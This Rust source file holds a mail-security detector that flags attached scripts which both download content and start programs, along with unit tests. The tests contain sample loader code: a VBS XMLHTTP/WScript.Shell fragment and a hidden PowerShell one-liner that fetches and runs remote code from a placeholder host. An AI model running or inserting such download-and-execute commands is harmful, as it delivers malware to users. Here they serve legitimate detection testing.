//! Code that came along fetches something and starts programs.
//!
//! # What it sees
//!
//! Scripts, macros and command lines in files that name both a way of fetching (`MSXML2.XMLHTTP`, `DownloadFile`, `curl`, ...) and
//! a way of starting (`WScript.Shell`, `iex`, `mshta`, ...), also in what stands encoded in them.
//!
//! # Why it matters
//!
//! A loader is two lines: fetch, start. What does harm comes later and from elsewhere.
//!
//! # How common
//!
//! None in 7,909 collected mails of consumers, which hold no script file.
//!
//! # How severe
//!
//! High when the code is encoded, evades what watches or stays for later; medium otherwise.
//!
//! # When it stays quiet
//!
//! With scripts that only fetch or only start, and with code in bodies and pages of the web.
//!
//! # Limits
//!
//! Installers and administrators' scripts do the same. Names that are computed are not seen.

use crate::active::{called, quote_feature};
use crate::detector::Detector;
use crate::exhibit::{Exhibit, quote_file};
use crate::questions::FINDINGS_LIMIT;
use creel_evidence::dissection::FeatureKind;
use creel_evidence::text::inert;
use creel_evidence::{Confidence, Finding, Severity};
use std::collections::HashSet;

/// See the file's documentation.
pub static DETECTOR: Detector = Detector {
    name: "fetching-code",
    summary: "A script, macro or command that came along fetches something and starts programs.",
    technique: None,
    attack: &["T1059", "T1105", "T1204.002"],
    severities: &[Severity::Medium, Severity::High],
    confidences: &[Confidence::Moderate],
    run,
};

/// What code does beyond fetching and starting.
const WORSE: &[FeatureKind] = &[FeatureKind::Evasion, FeatureKind::Persistence, FeatureKind::EncodedCode];

fn run(exhibit: &Exhibit<'_>) -> Vec<Finding> {
    let mut seen = HashSet::new();
    let found = exhibit.features(&[FeatureKind::Download]).filter_map(|(fetch, file)| {
        let (start, _) = exhibit.features(&[FeatureKind::Execution]).find(|(_, of)| of.id == file.id)?;
        if !seen.insert(file.id) {
            return None;
        }
        let is_worse = exhibit.has_feature(file, WORSE);
        let severity = if is_worse { Severity::High } else { Severity::Medium };
        let begun = DETECTOR.sees(exhibit, severity, Confidence::Moderate);
        let reason = format!(
            "code in '{}' fetches by {} and starts by {}",
            called(file),
            inert(&fetch.detail),
            inert(&start.detail)
        );
        Some(begun.at(quote_feature(fetch)).at(quote_feature(start)).at(quote_file(file)).because(reason))
    });
    found.take(FINDINGS_LIMIT).collect()
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::trial::{hit, quiet, with_file};
    use creel_evidence::Severity;

    const HEADER: &str = "From: Desk <desk@firm.test>\nSubject: Invoice";

    fn script(name: &str, code: &str) -> String {
        with_file(HEADER, "See the file.", name, "text/plain", code)
    }

    #[test]
    fn hit_a_loader() {
        let code = "Dim a\nSet a = CreateObject(\"MSXML2.XMLHTTP\")\nCreateObject(\"WScript.Shell\").Run b";
        let finding = hit(&DETECTOR, &script("a.vbs", code));
        assert_eq!(finding.severity, Severity::Medium);
        let code = "powershell -w hidden -c \"iex (irm https://site.test/a)\"";
        assert_eq!(hit(&DETECTOR, &script("a.bat", code)).severity, Severity::High);
    }

    #[test]
    fn miss_a_text_about_it() {
        quiet(&DETECTOR, &script("a.txt", "Use curl to fetch it and powershell to start it."));
    }

    #[test]
    fn twin_scripts_that_do_one_of_both() {
        quiet(&DETECTOR, &script("a.sh", "#!/bin/sh\ncurl -o list.csv https://firm.test/list.csv\n"));
        quiet(&DETECTOR, &script("a.bat", "@echo off\npowershell Get-Date\n"));
    }
}
